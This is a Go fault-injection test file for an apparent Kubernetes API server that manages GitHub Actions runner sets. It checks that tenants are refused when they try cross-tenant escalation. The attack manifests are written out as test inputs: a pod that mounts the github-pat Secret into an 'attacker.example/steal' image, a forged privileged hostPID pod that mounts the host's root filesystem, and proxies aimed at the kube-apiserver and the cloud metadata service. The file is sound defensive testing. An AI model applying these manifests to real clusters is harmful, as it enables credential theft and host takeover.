//go:build faults

/*
Copyright 2026 The runnerset-apiserver Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package faults

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"actions.dev/runnerset-apiserver/pkg/apis/actions/v1alpha1"
	"actions.dev/runnerset-apiserver/pkg/github/simulator"
	"actions.dev/runnerset-apiserver/pkg/localsystem"
)

// tenancy is R6's second half: every way a tenant tried to get through the server what RBAC
// denies her (issue 17), each refused or ignored with the error or condition that names it,
// while the other tenant's scale set, session and runners stay untouched.
type tenancy struct {
	t        *testing.T
	a, b     *world // team-a (alice, carol, dave) and team-b (bob)
	problems []string
	lines    []string
	checks   int
}

func (c *tenancy) expect(ok bool, format string, args ...any) {
	c.checks++
	if !ok {
		c.problems = append(c.problems, fmt.Sprintf(format, args...))
	}
}

func (c *tenancy) note(what, format string, args ...any) {
	c.lines = append(c.lines, fmt.Sprintf("%-15s %s", what, fmt.Sprintf(format, args...)))
}

// manifest is a RunnerSet in JSON with spec fields merged over a plain one of url.
func manifest(name, ns, url string, spec map[string]any) string {
	s := map[string]any{
		"githubConfigUrl": url, "githubConfigSecret": "github-pat", "minRunners": 0, "maxRunners": 2,
		"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "runner", "image": "ghcr.io/actions/actions-runner:latest"}}}},
	}
	for k, v := range spec {
		s[k] = v
	}
	data, _ := json.Marshal(map[string]any{"apiVersion": "actions.dev/v1alpha1", "kind": "RunnerSet",
		"metadata": map[string]any{"name": name, "namespace": ns}, "spec": s})
	return string(data)
}

func podSpec(spec map[string]any) map[string]any {
	containers := []any{map[string]any{"name": "runner", "image": "ghcr.io/actions/actions-runner:latest"}}
	out := map[string]any{"containers": containers}
	for k, v := range spec {
		out[k] = v
	}
	return map[string]any{"spec": out}
}

// refused applies m as user and expects the refusal to contain every one of want.
func (c *tenancy) refused(what, user, m string, want ...string) {
	_, errOut, err := kubectlStdin(user, m, "create", "-f", "-")
	ok := err != nil
	for _, w := range want {
		ok = ok && strings.Contains(errOut, w)
	}
	c.expect(ok, "%s: %s's RunnerSet was not refused as expected (want %q): %v %s", what, user, want, err, errOut)
}

func TestR6TenantsGetNothingThroughTheServer(t *testing.T) {
	ctx := context.Background()
	c := &tenancy{t: t}
	c.a = newWorld(t, "R6 tenants get nothing through the server", "team-a", simulator.Options{})
	c.b = newWorld(t, "R6 tenants get nothing through the server", "team-b", simulator.Options{})
	_, err := c.a.kube.CoreV1().Secrets("team-a").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "team-a-private"},
		StringData: map[string]string{"github_token": simulator.DefaultPAT, "username": "u", "password": "p"}}, metav1.CreateOptions{})
	if err != nil && !strings.Contains(err.Error(), "already exists") {
		require.NoError(t, err)
	}
	t.Cleanup(func() {
		_ = c.a.kube.CoreV1().Secrets("team-a").Delete(context.Background(), "team-a-private", metav1.DeleteOptions{})
	})

	// alice's RunnerSet, made by alice with the rights it needs: the one everyone goes after.
	_, errOut, err := kubectlStdin("alice", manifest("linux-small", "team-a", c.a.configURL(), map[string]any{"minRunners": 1, "maxRunners": 3, "labels": []string{"linux"}}), "create", "-f", "-")
	require.NoError(t, err, errOut)
	c.a.mu.Lock()
	c.a.sets["linux-small"] = setSpec{name: "linux-small", min: 1, max: 3}
	c.a.mu.Unlock()
	victim := c.victim(ctx)

	c.escalationsThroughTheTemplate()
	psa := c.podSecurity(ctx)
	c.forgedConfigMaps(ctx, victim)
	c.scaleSetOfAnotherNamespace(ctx, victim)
	c.hostsAndCounts(ctx)
	c.victimUntouched(ctx, victim)
	// And alice's RunnerSet still runs her jobs.
	c.a.queue("linux-small", pick(6, 3), time.Second, 3*time.Second)
	c.a.waitJobs(3 * time.Minute)
	c.psaStaysQuiet(psa)

	lines := append(c.lines, fmt.Sprintf("%-15s %d checks", "checks", c.checks))
	for _, p := range c.problems {
		lines = append(lines, "FAIL "+p)
	}
	verdict := "PASS"
	if len(c.problems) > 0 {
		verdict = fmt.Sprintf("FAIL (%d problems)", len(c.problems))
	}
	lines = append(lines, fmt.Sprintf("%-15s %s", "verdict", verdict))
	bar := strings.Repeat("=", 20)
	report(t, fmt.Sprintf("%s AUDIT R6 tenants get nothing through the server %s\n%s\n", bar, bar, indent(lines)))
	for _, p := range c.problems {
		t.Error(p)
	}
	c.a.audit("alice's RunnerSet, after every attempt of the other users on it")
}

// victim is what the others must not touch: alice's scale set, session and runners.
type victim struct {
	scaleSetID int
	session    string
	runners    []string
}

func (c *tenancy) victim(ctx context.Context) victim {
	var v victim
	c.a.eventually(2*time.Minute, "alice's RunnerSet Ready with its warm runner online", func(ctx context.Context) (bool, string) {
		rs, err := c.a.runnerSet(ctx, "linux-small")
		if err != nil {
			return false, err.Error()
		}
		if !meta.IsStatusConditionTrue(rs.Status.Conditions, v1alpha1.ConditionReady) || rs.Status.IdleRunners != 1 {
			return false, fmt.Sprintf("conditions %v, idle %d", rs.Status.Conditions, rs.Status.IdleRunners)
		}
		v = victim{scaleSetID: int(rs.Status.ScaleSetID), session: rs.Status.SessionID, runners: c.a.mon.livePods("linux-small")}
		return len(v.runners) == 1, fmt.Sprintf("pods %v", v.runners)
	})
	return v
}

// escalationsThroughTheTemplate: carol (RunnerSet editor only) and alice (who may create pods
// and read github-pat and github-app, nothing else) try to hand runner pods what they may not
// use themselves.
func (c *tenancy) escalationsThroughTheTemplate() {
	url := c.a.configURL()
	exfil := map[string]any{"githubConfigSecret": "github-pat", "minRunners": 1, "maxRunners": 1, "template": map[string]any{"spec": map[string]any{
		"serviceAccountName": "default", "automountServiceAccountToken": true,
		"containers": []any{map[string]any{"name": "runner", "image": "attacker.example/steal:latest",
			"volumeMounts": []any{map[string]any{"name": "stolen", "mountPath": "/stolen"}}}},
		"volumes": []any{map[string]any{"name": "stolen", "secret": map[string]any{"secretName": "github-pat"}}},
	}}}
	c.refused("exfil", "carol", manifest("exfil", "team-a", url, exfil), "Forbidden", `user "carol" may not`, "create pods (spec.template)",
		`get secrets "github-pat" (spec.githubConfigSecret, spec.template.spec.volumes[0].secret.secretName)`)
	c.refused("foreign ServiceAccount", "carol", manifest("sa", "team-a", url, map[string]any{"template": podSpec(map[string]any{"serviceAccountName": "default"})}),
		"create pods (spec.template)")

	priv := `get secrets "team-a-private"`
	for _, tc := range []struct {
		what string
		spec map[string]any
		want string
	}{
		{"secret volume", map[string]any{"template": podSpec(map[string]any{"volumes": []any{map[string]any{"name": "s", "secret": map[string]any{"secretName": "team-a-private"}}}})},
			priv + " (spec.template.spec.volumes[0].secret.secretName)"},
		{"env", map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "runner", "image": "r",
			"env": []any{map[string]any{"name": "T", "valueFrom": map[string]any{"secretKeyRef": map[string]any{"name": "team-a-private", "key": "github_token"}}}}}}}}},
			priv + " (spec.template.spec.containers[0].env[0].valueFrom.secretKeyRef.name)"},
		{"envFrom", map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "runner", "image": "r",
			"envFrom": []any{map[string]any{"secretRef": map[string]any{"name": "team-a-private"}}}}}}}},
			priv + " (spec.template.spec.containers[0].envFrom[0].secretRef.name)"},
		{"projected", map[string]any{"template": podSpec(map[string]any{"volumes": []any{map[string]any{"name": "p", "projected": map[string]any{"sources": []any{
			map[string]any{"secret": map[string]any{"name": "team-a-private"}}, map[string]any{"serviceAccountToken": map[string]any{"path": "token"}}}}}}})},
			priv + " (spec.template.spec.volumes[0].projected.sources[0].secret.name)"},
		{"PVC", map[string]any{"template": podSpec(map[string]any{"volumes": []any{map[string]any{"name": "d", "persistentVolumeClaim": map[string]any{"claimName": "build-cache"}}}})},
			`get persistentvolumeclaims "build-cache"`},
		{"credential Secret", map[string]any{"githubConfigSecret": "team-a-private"}, priv + " (spec.githubConfigSecret)"},
		{"proxy Secret", map[string]any{"proxy": map[string]any{"https": map[string]any{"url": "http://127.0.0.2:3128", "credentialSecretRef": "team-a-private"}}},
			priv + " (spec.proxy.https.credentialSecretRef)"},
		{"kubernetes mode", map[string]any{"containerMode": map[string]any{"type": "kubernetes"}, "template": podSpec(map[string]any{
			"volumes": []any{map[string]any{"name": "work", "emptyDir": map[string]any{}}}})}, "list secrets (spec.containerMode.type)"},
	} {
		c.refused(tc.what, "alice", manifest("x-"+strings.ReplaceAll(strings.ToLower(tc.what), " ", "-"), "team-a", url, tc.spec), "Forbidden", tc.want)
	}
	rs, err := c.a.rsets.ActionsV1alpha1().RunnerSets("team-a").List(context.Background(), metav1.ListOptions{})
	c.expect(err == nil && len(rs.Items) == 1, "only alice's RunnerSet exists in team-a after the refusals: %v %d", err, len(rs.Items))
	c.note("template", "carol (no pods, no Secrets) refused the issue's exfiltration RunnerSet and a foreign ServiceAccount; alice (pods, github-pat only) refused a Secret volume, env, envFrom, projected Secret, PVC, another credential Secret, a proxy Secret and kubernetes mode, each 403 naming the right and the field; nothing stored")
}

// podSecurity: a restricted namespace refuses a dind RunnerSet's pods; the RunnerSet says so
// in a condition and does not retry on and on.
func (c *tenancy) podSecurity(ctx context.Context) (psa psaRun) {
	w := newWorld(c.t, "R6 pod security", "faults-r6-psa", simulator.Options{})
	ns, err := w.kube.CoreV1().Namespaces().Get(ctx, w.ns, metav1.GetOptions{})
	require.NoError(c.t, err)
	if ns.Labels == nil {
		ns.Labels = map[string]string{}
	}
	ns.Labels["pod-security.kubernetes.io/enforce"] = "restricted"
	_, err = w.kube.CoreV1().Namespaces().Update(ctx, ns, metav1.UpdateOptions{})
	require.NoError(c.t, err)
	_, errOut, err := kubectlStdin(localsystem.UserAdmin, manifest("dind", w.ns, w.configURL(), map[string]any{"minRunners": 1, "containerMode": map[string]any{"type": "dind"}}), "create", "-f", "-")
	require.NoError(c.t, err, errOut)
	var msg string
	w.eventually(90*time.Second, "PodsFailing=PodSecurityViolation", func(ctx context.Context) (bool, string) {
		rs, err := w.runnerSet(ctx, "dind")
		if err != nil {
			return false, err.Error()
		}
		cond := meta.FindStatusCondition(rs.Status.Conditions, v1alpha1.ConditionPodsFailing)
		if cond == nil || cond.Status != metav1.ConditionTrue || cond.Reason != "PodSecurityViolation" {
			return false, fmt.Sprintf("%v", rs.Status.Conditions)
		}
		msg = cond.Message
		return true, ""
	})
	id, _ := w.scaleSetOf("dind")
	c.expect(strings.Contains(msg, "restricted") && strings.Contains(msg, "privileged"), "the PodSecurityViolation condition names the level: %q", msg)
	return psaRun{w: w, scaleSetID: id, jits: w.sim.Counters().ScaleSet(id, simulator.EPGenerateJitConfig), at: time.Now()}
}

type psaRun struct {
	w          *world
	scaleSetID int
	jits       int
	at         time.Time
}

// psaStaysQuiet checks, at the end, that the refused RunnerSet made no more attempts.
func (c *tenancy) psaStaysQuiet(p psaRun) {
	ctx := context.Background()
	jits := p.w.sim.Counters().ScaleSet(p.scaleSetID, simulator.EPGenerateJitConfig)
	pods, _ := p.w.kube.CoreV1().Pods(p.w.ns).List(ctx, metav1.ListOptions{})
	events, _ := p.w.kube.CoreV1().Events(p.w.ns).List(ctx, metav1.ListOptions{FieldSelector: "reason=PodSecurityViolation"})
	count := 0
	for _, e := range events.Items {
		count += int(max(e.Count, 1))
	}
	c.expect(jits == p.jits && len(pods.Items) == 0 && count == 1, "restricted namespace: %d more runner registrations in %s, %d pods, %d events", jits-p.jits, time.Since(p.at).Round(time.Second), len(pods.Items), count)
	c.note("pod security", "a dind RunnerSet in a restricted namespace: condition PodsFailing=PodSecurityViolation naming the level, one event, no pod, and no further attempt in the %s that followed", time.Since(p.at).Round(time.Second))
	_ = p.w.rsets.ActionsV1alpha1().RunnerSets(p.w.ns).Delete(ctx, "dind", metav1.DeleteOptions{})
	p.w.eventually(time.Minute, "the dind RunnerSet deleted", func(ctx context.Context) (bool, string) {
		_, err := p.w.runnerSet(ctx, "dind")
		return err != nil, fmt.Sprint(err)
	})
	_, exists := p.w.scaleSetOf("dind")
	c.expect(!exists, "the refused RunnerSet's scale set is deleted with it")
}

// forgedConfigMaps: dave, who may only write ConfigMaps in team-a, writes backing ConfigMaps
// by hand, one invalid and privileged with the drain finalizer, one valid that claims alice's
// scale set and session in its status.
func (c *tenancy) forgedConfigMaps(ctx context.Context, v victim) {
	now := metav1.Now()
	forged := []*v1alpha1.RunnerSet{{
		TypeMeta:   metav1.TypeMeta{APIVersion: "actions.dev/v1alpha1", Kind: "RunnerSet"},
		ObjectMeta: metav1.ObjectMeta{Name: "evil", Namespace: "team-a", UID: "00000000-0000-0000-0000-00000000e111", CreationTimestamp: now, Finalizers: []string{v1alpha1.RunnerSetFinalizer}},
		Spec: v1alpha1.RunnerSetSpec{GitHubConfigURL: c.a.configURL(), GitHubConfigSecret: "github-pat", RunnerScaleSetName: "evil",
			MinRunners: ptr.To[int32](4), MaxRunners: ptr.To[int32](2),
			Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyAlways, HostNetwork: true, HostPID: true,
				Containers: []corev1.Container{{Name: "x", Image: "attacker.example/root", SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)},
					VolumeMounts: []corev1.VolumeMount{{Name: "root", MountPath: "/host"}}}},
				Volumes: []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}},
		Status: v1alpha1.RunnerSetStatus{ScaleSetID: int64(v.scaleSetID), SessionID: v.session},
	}, {
		TypeMeta:   metav1.TypeMeta{APIVersion: "actions.dev/v1alpha1", Kind: "RunnerSet"},
		ObjectMeta: metav1.ObjectMeta{Name: "quiet", Namespace: "team-a", UID: "00000000-0000-0000-0000-00000000e222", CreationTimestamp: now},
		Spec: v1alpha1.RunnerSetSpec{GitHubConfigURL: c.a.configURL(), GitHubConfigSecret: "github-pat", RunnerScaleSetName: "quiet",
			MinRunners: ptr.To[int32](1), MaxRunners: ptr.To[int32](2),
			Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "runner", Image: "r"}}}}},
		Status: v1alpha1.RunnerSetStatus{ScaleSetID: int64(v.scaleSetID), SessionID: v.session},
	}}
	for _, rs := range forged {
		data, _ := json.Marshal(rs)
		cm, _ := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "ConfigMap",
			"metadata": map[string]any{"name": "runnerset." + rs.Name, "namespace": "team-a", "labels": map[string]string{v1alpha1.LabelRunnerSet: rs.Name}},
			"data":     map[string]string{"object": string(data)}})
		_, errOut, err := kubectlStdin("dave", string(cm), "create", "-f", "-")
		require.NoError(c.t, err, errOut)
	}
	c.t.Cleanup(func() {
		_ = c.a.kube.CoreV1().ConfigMaps("team-a").DeleteCollection(context.Background(), metav1.DeleteOptions{}, metav1.ListOptions{LabelSelector: v1alpha1.LabelRunnerSet + " in (evil,quiet)"})
	})
	out, errOut, err := sys.Kubectl(ctx, localsystem.UserAdmin, "get", "runnersets", "-n", "team-a", "-o", "name")
	c.expect(err == nil && !strings.Contains(out, "evil") && !strings.Contains(out, "quiet"), "forged RunnerSets are listed: %s", out)
	c.expect(strings.Contains(errOut, "team-a/evil left out") && strings.Contains(errOut, "not signed by this server"), "the list warns about the forged ConfigMap: %q", errOut)
	c.a.eventually(time.Minute, "an event naming each forged ConfigMap", func(ctx context.Context) (bool, string) {
		l, err := c.a.kube.CoreV1().Events("team-a").List(ctx, metav1.ListOptions{FieldSelector: "reason=StoredObjectRejected"})
		if err != nil {
			return false, err.Error()
		}
		var named []string
		for _, e := range l.Items {
			named = append(named, e.InvolvedObject.Name)
		}
		return slices.Contains(named, "runnerset.evil") && slices.Contains(named, "runnerset.quiet"), fmt.Sprint(named)
	})
	c.note("backing store", "dave (ConfigMaps only) forged runnerset.evil (privileged, hostPID, hostPath /, drain finalizer, invalid counts) and runnerset.quiet (valid, alice's scale set id and session id in its status): neither listed (a warning names them), an event on each ConfigMap; checked at the end: no pod, no scale set, alice's session untouched")
}

// scaleSetOfAnotherNamespace: bob points RunnerSets of team-b at team-a's repository, one with
// the same scale set name (which he must not get, nor delete with his RunnerSet), one with a
// scale set of his own whose name is a label of alice's runners (whose drift must not take
// alice's runners for his).
func (c *tenancy) scaleSetOfAnotherNamespace(ctx context.Context, v victim) {
	url := c.a.configURL()
	_, errOut, err := kubectlStdin("bob", manifest("takeover", "team-b", url, map[string]any{"runnerScaleSetName": "linux-small"}), "create", "-f", "-")
	require.NoError(c.t, err, errOut)
	_, errOut, err = kubectlStdin("bob", manifest("linux-small", "team-b", url, map[string]any{"runnerScaleSetName": "linux", "minRunners": 1}), "create", "-f", "-")
	require.NoError(c.t, err, errOut)

	var takeover *v1alpha1.RunnerSet
	c.b.eventually(90*time.Second, "bob's takeover refused with ScaleSetNameTaken", func(ctx context.Context) (bool, string) {
		rs, err := c.b.runnerSet(ctx, "takeover")
		if err != nil {
			return false, err.Error()
		}
		takeover = rs
		cond := meta.FindStatusCondition(rs.Status.Conditions, v1alpha1.ConditionScaleSetRegistered)
		return cond != nil && cond.Reason == "ScaleSetNameTaken" && strings.Contains(cond.Message, "namespace team-a"), fmt.Sprint(rs.Status.Conditions)
	})
	c.expect(takeover.Status.ScaleSetID == 0, "bob's takeover status shows a scale set id: %d", takeover.Status.ScaleSetID)
	// His runner never comes online (team-b's runners talk to team-b's GitHub here), so his
	// scaler compares both sides every few seconds: the condition appears with the first check.
	var rs *v1alpha1.RunnerSet
	c.b.eventually(2*time.Minute, "bob's own drift check to have run", func(ctx context.Context) (bool, string) {
		var err error
		if rs, err = c.b.runnerSet(ctx, "linux-small"); err != nil {
			return false, err.Error()
		}
		return meta.FindStatusCondition(rs.Status.Conditions, v1alpha1.ConditionOrphanRunners) != nil, fmt.Sprint(rs.Status.Conditions)
	})
	c.expect(len(rs.Status.GitHubOnlyRunners) == 0 && !meta.IsStatusConditionTrue(rs.Status.Conditions, v1alpha1.ConditionOrphanRunners),
		"bob's RunnerSet takes alice's runners for its own: %v %v", rs.Status.GitHubOnlyRunners, rs.Status.Conditions)

	for _, name := range []string{"takeover", "linux-small"} {
		_, errOut, err := sys.Kubectl(ctx, "bob", "delete", "runnerset", name, "-n", "team-b", "--timeout=90s")
		c.expect(err == nil, "bob deletes %s: %v %s", name, err, errOut)
	}
	_, alive := c.a.scaleSetOf("linux-small")
	c.expect(alive, "alice's scale set was deleted with bob's RunnerSet")
	_, bobs := c.a.scaleSetOf("linux")
	c.expect(!bobs, "bob's own scale set stays after his RunnerSet is deleted")
	c.note("scale sets", "bob (team-b) named team-a's scale set: ScaleSetNameTaken naming namespace team-a, no id in his status; his deletion left alice's scale set; his RunnerSet of alice's name with a scale set named after alice's runners' label listed none of alice's runners as its own; his own scale set went with it")
}

// hostsAndCounts: hosts outside --allowed-github-hosts and counts over the caps are refused.
func (c *tenancy) hostsAndCounts(ctx context.Context) {
	apiserver, err := url.Parse(sys.APIServerURL())
	require.NoError(c.t, err)
	for _, tc := range []struct {
		what string
		spec map[string]any
		want string
	}{
		{"kube-apiserver as GitHub", map[string]any{"githubConfigUrl": "https://" + apiserver.Host + "/acme/x"}, "spec.githubConfigUrl"},
		{"kube-apiserver as proxy", map[string]any{"proxy": map[string]any{"https": map[string]any{"url": "http://" + apiserver.Host}}}, "spec.proxy.https.url"},
		{"metadata service as proxy", map[string]any{"proxy": map[string]any{"http": map[string]any{"url": "http://169.254.169.254"}}}, "spec.proxy.http.url"},
		{"github.com", map[string]any{"githubConfigUrl": "https://github.com/acme"}, "spec.githubConfigUrl"},
	} {
		spec := map[string]any{"githubConfigUrl": c.a.configURL()}
		for k, v := range tc.spec {
			spec[k] = v
		}
		c.refused(tc.what, "alice", manifest("host", "team-a", spec["githubConfigUrl"].(string), spec), "is invalid", tc.want, "is not in this server's allowed GitHub hosts")
	}
	c.refused("counts", "alice", manifest("huge", "team-a", c.a.configURL(), map[string]any{"minRunners": 2000000000, "maxRunners": 2000000000}),
		"spec.maxRunners: Invalid value: 2000000000: must be at most 1000", "spec.minRunners")
	_, errOut, err := sys.Kubectl(ctx, "alice", "scale", "runnerset", "linux-small", "-n", "team-a", "--replicas=5000")
	c.expect(err != nil && strings.Contains(errOut, "spec.replicas"), "scaling to 5000 is refused: %v %s", err, errOut)
	_, errOut, err = sys.Kubectl(ctx, localsystem.UserAdmin, "patch", "runnerset", "linux-small", "-n", "team-a", "--subresource=status", "--type=merge", "-p", `{"status":{"scaleSetId":999999}}`)
	c.expect(err != nil && strings.Contains(errOut, "status.scaleSetId: Forbidden: only the server writes it"), "even an admin may not write the scale set id: %v %s", err, errOut)
	c.note("hosts, counts", "the kube-apiserver as GitHub or as proxy, the metadata service as proxy and github.com (not allowed here) refused with 422 naming the field; minRunners/maxRunners 2000000000 and kubectl scale --replicas=5000 refused over --max-runners-per-runnerset; status.scaleSetId written by the admin refused")
}

// victimUntouched: after all of it, alice's scale set, session and runners are as they were,
// and nothing of the forged RunnerSets exists.
func (c *tenancy) victimUntouched(ctx context.Context, v victim) {
	rs, err := c.a.runnerSet(ctx, "linux-small")
	require.NoError(c.t, err)
	c.expect(int(rs.Status.ScaleSetID) == v.scaleSetID && rs.Status.SessionID == v.session, "alice's scale set or session changed: %d %q, was %d %q",
		rs.Status.ScaleSetID, rs.Status.SessionID, v.scaleSetID, v.session)
	sessions := 0
	for _, s := range c.a.sim.Sessions() {
		if s.RunnerScaleSet != nil && s.RunnerScaleSet.ID == v.scaleSetID {
			sessions++
			c.expect(s.SessionID == v.session, "alice's session on GitHub changed: %s, was %s", s.SessionID, v.session)
		}
	}
	c.expect(sessions == 1, "alice's scale set has %d sessions", sessions)
	live := c.a.mon.livePods("linux-small")
	c.expect(slices.Equal(live, v.runners), "alice's runners changed: %v, were %v", live, v.runners)
	for _, name := range []string{"evil", "quiet"} {
		pods, _ := c.a.kube.CoreV1().Pods("team-a").List(ctx, metav1.ListOptions{LabelSelector: v1alpha1.LabelRunnerSet + "=" + name})
		_, registered := c.a.scaleSetOf(name)
		c.expect(len(pods.Items) == 0 && !registered, "forged RunnerSet %s acted on: %d pods, scale set registered %v", name, len(pods.Items), registered)
	}
	c.note("untouched", "alice's scale set %d, session and runner %v unchanged after every attempt", v.scaleSetID, v.runners)
}
